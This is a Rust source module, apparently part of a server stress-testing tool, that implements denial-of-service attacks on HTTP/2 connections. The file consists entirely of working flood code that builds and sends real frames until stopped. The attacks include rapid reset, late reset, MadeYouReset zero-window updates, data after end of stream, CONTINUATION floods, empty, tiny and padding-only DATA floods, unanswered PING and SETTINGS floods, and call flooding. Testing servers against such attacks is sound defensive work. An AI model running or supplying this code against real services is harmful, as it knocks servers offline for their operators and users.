//! Attacks on HTTP/2, each on one connection until that is over (RFC 9113 §10.5).
//!
//! Each function goes on while `running` says so and the victim takes what is sent, and gives how many frames it took.
//! None of them reads, but where the attack wants it.

use super::Wire;
use crate::frames::{
    ACK, CONTINUATION, Connection, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE,
    PADDED, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, setting,
};

/// Frames of one write.
const BATCH: u32 = 50;

/// An attack on one connection.
pub type Assault = fn(&mut Connection<Box<dyn Wire>>, &Calls, &dyn Fn() -> bool) -> u64;

/// The header blocks of calls that the victim knows.
#[derive(Debug, Clone)]
pub struct Calls {
    /// With one message each way.
    pub plain: Vec<u8>,
    /// With streams both ways.
    pub streaming: Vec<u8>,
}

const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Streams that are opened and reset at once (rapid reset).
pub fn rapid_reset(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let pair = |stream| {
        [
            frame(HEADERS, END_HEADERS, stream, &calls.plain),
            frame(RST_STREAM, 0, stream, &CANCEL),
        ]
        .concat()
    };
    flood(to, running, |first| streams(first).flat_map(pair).collect())
}

/// Streams that are opened, accepted, and then reset: what was begun for them is thrown away.
pub fn late_reset(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let mut frames = u64::from(to.send(PREFACE));
    let mut first = 1;
    while running() {
        let open: Vec<u8> = streams(first)
            .flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &calls.plain))
            .chain(frame(PING, 0, 0, &[7; 8]))
            .collect();
        // The answer to the ping comes after the headers were read.
        if !to.send(&open) || !until_pong(to) {
            break;
        }
        let reset: Vec<u8> = streams(first)
            .flat_map(|stream| frame(RST_STREAM, 0, stream, &CANCEL))
            .collect();
        if !to.send(&reset) {
            break;
        }
        frames += 2 * u64::from(BATCH);
        first += 2 * BATCH;
    }
    frames
}

/// Streams that the victim has to reset, because of a window that grows by nothing (MadeYouReset).
pub fn made_you_reset(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let pair = |stream| {
        [
            frame(HEADERS, END_HEADERS, stream, &calls.streaming),
            frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
        ]
        .concat()
    };
    flood(to, running, |first| streams(first).flat_map(pair).collect())
}

/// The same by data after the end of the stream.
pub fn data_after_end(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let pair = |stream| {
        [
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &calls.streaming),
            frame(DATA, 0, stream, &[0; 5]),
        ]
        .concat()
    };
    flood(to, running, |first| streams(first).flat_map(pair).collect())
}

/// A header block without end, in large pieces.
pub fn continuation_flood(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let begin = [PREFACE.to_vec(), frame(HEADERS, 0, 1, &calls.plain)].concat();
    let piece = frame(CONTINUATION, 0, 1, &crate::frames::field("x", &[b'a'; 16_000])).repeat(8);
    repeat(to, running, &begin, &piece, 8)
}

/// A header block without end, in pieces of nothing.
pub fn empty_continuations(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let begin = [PREFACE.to_vec(), frame(HEADERS, 0, 1, &calls.plain)].concat();
    repeat(to, running, &begin, &frame(CONTINUATION, 0, 1, &[]).repeat(1000), 1000)
}

/// Data without octets, on a stream that nobody reads since its answer has no room.
pub fn empty_data(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    repeat(to, running, &undrained(calls), &frame(DATA, 0, 1, &[]).repeat(500), 500)
}

/// Data of one octet, on many streams that nobody reads.
pub fn small_data(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let open = (1..200).step_by(2);
    let mut begin = [PREFACE.to_vec(), setting(INITIAL_WINDOW_SIZE, 0)].concat();
    begin.extend(
        open.clone()
            .flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &calls.streaming)),
    );
    let piece: Vec<u8> = open.flat_map(|stream| frame(DATA, 0, stream, &[0])).collect();
    repeat(to, running, &begin, &piece, 100)
}

/// Data of padding only.
pub fn padded_data(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let padding = [&[255][..], &[0; 255]].concat();
    repeat(
        to,
        running,
        &undrained(calls),
        &frame(DATA, PADDED, 1, &padding).repeat(100),
        100,
    )
}

/// Questions whose answers nobody takes.
pub fn unread_pongs(to: &mut Connection<Box<dyn Wire>>, _: &Calls, running: &dyn Fn() -> bool) -> u64 {
    let piece = [frame(PING, 0, 0, &[1; 8]), frame(SETTINGS, 0, 0, &[])]
        .concat()
        .repeat(250);
    repeat(to, running, PREFACE, &piece, 500)
}

/// Whole calls of one message, as fast as they are answered, fifty at a time on one connection.
pub fn plain_calls(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    again_and_again(to, &calls.plain, running)
}

/// The same with the call that streams.
pub fn streaming_calls(to: &mut Connection<Box<dyn Wire>>, calls: &Calls, running: &dyn Fn() -> bool) -> u64 {
    again_and_again(to, &calls.streaming, running)
}

fn again_and_again(to: &mut Connection<Box<dyn Wire>>, block: &[u8], running: &dyn Fn() -> bool) -> u64 {
    let (mut answered, mut first) = (0, 1);
    to.send(PREFACE);
    while running() {
        let calls = streams(first).flat_map(|stream| {
            [
                frame(HEADERS, END_HEADERS, stream, block),
                frame(DATA, END_STREAM, stream, &EMPTY_MESSAGE),
            ]
            .concat()
        });
        let calls: Vec<u8> = calls.collect();
        if !to.send(&calls) {
            break;
        }
        let mut open = BATCH;
        while open > 0 {
            match to.receive() {
                Ok(Some(frame)) if frame.kind == RST_STREAM => open -= 1,
                Ok(Some(frame)) if matches!(frame.kind, HEADERS | DATA) => {
                    if frame.flags & END_STREAM != 0 {
                        (open, answered) = (open - 1, answered + 1);
                    }
                    if frame.kind == DATA && !frame.payload.is_empty() {
                        let read = u32::try_from(frame.payload.len()).expect("a frame is short");
                        to.send(&self::frame(WINDOW_UPDATE, 0, 0, &read.to_be_bytes()));
                    }
                }
                Ok(Some(frame)) if frame.kind == GOAWAY => return answered,
                Ok(Some(_)) => {}
                Ok(None) | Err(_) => return answered,
            }
        }
        first += 2 * BATCH;
    }
    answered
}

/// A stream whose answer has no room, so that what is sent on it is not read.
fn undrained(calls: &Calls) -> Vec<u8> {
    [
        PREFACE.to_vec(),
        setting(INITIAL_WINDOW_SIZE, 0),
        frame(HEADERS, END_HEADERS, 1, &calls.streaming),
    ]
    .concat()
}

fn streams(first: u32) -> impl Iterator<Item = u32> + Clone {
    (first..first + 2 * BATCH).step_by(2)
}

/// New streams in batches, two frames each.
fn flood(to: &mut Connection<Box<dyn Wire>>, running: &dyn Fn() -> bool, batch: impl Fn(u32) -> Vec<u8>) -> u64 {
    let mut frames = u64::from(to.send(PREFACE));
    let mut first = 1;
    while running() && to.send(&batch(first)) {
        frames += 2 * u64::from(BATCH);
        first += 2 * BATCH;
    }
    frames
}

/// One beginning, and then the same again and again.
fn repeat(
    to: &mut Connection<Box<dyn Wire>>,
    running: &dyn Fn() -> bool,
    begin: &[u8],
    piece: &[u8],
    frames: u64,
) -> u64 {
    if !to.send(begin) {
        return 0;
    }
    let mut sent = 0;
    while running() && to.send(piece) {
        sent += frames;
    }
    sent
}

fn until_pong(to: &mut Connection<Box<dyn Wire>>) -> bool {
    loop {
        match to.receive() {
            Ok(Some(frame)) if frame.kind == PING && frame.flags & ACK != 0 => return true,
            Ok(Some(frame)) if frame.kind == GOAWAY => return false,
            Ok(Some(_)) => {}
            Ok(None) | Err(_) => return false,
        }
    }
}
